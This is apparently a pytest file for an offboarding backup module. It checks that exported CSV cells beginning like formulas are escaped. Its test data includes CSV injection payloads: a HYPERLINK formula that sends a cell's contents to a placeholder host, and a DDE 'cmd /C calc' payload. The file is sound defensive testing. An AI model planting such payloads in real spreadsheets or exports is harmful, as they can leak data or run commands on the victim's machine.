"""Outcome CSVs are safe to open in a spreadsheet: no cell starts like a formula."""

from __future__ import annotations

import csv
import io

import pytest

from offboarding.backup.spreadsheet import csv_chunks, spreadsheet_safe


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x/?"&A1,"click")', '\'=HYPERLINK("http://x/?"&A1,"click")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("zhangsan", "zhangsan"),
        ("张三 = 离职", "张三 = 离职"),
        ("", ""),
        (-3, -3),
        (12, 12),
        (True, True),
        (None, None),
    ],
)
def test_a_cell_starting_like_a_formula_is_text(value: object, cell: object) -> None:
    assert spreadsheet_safe(value) == cell


def test_csv_chunks_neutralise_every_cell_and_keep_the_columns() -> None:
    rows = [
        {"userid": "=cmd|' /C calc'!A0", "error": "@evil", "count": -1, "ignored": "x"},
        {"userid": "lisi", "error": "", "count": 2},
    ]
    data = b"".join(csv_chunks(iter(rows), ("userid", "error", "count"), every=1))
    assert data.startswith("\ufeff".encode())
    read = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert read == [
        {"userid": "'=cmd|' /C calc'!A0", "error": "'@evil", "count": "-1"},
        {"userid": "lisi", "error": "", "count": "2"},
    ]
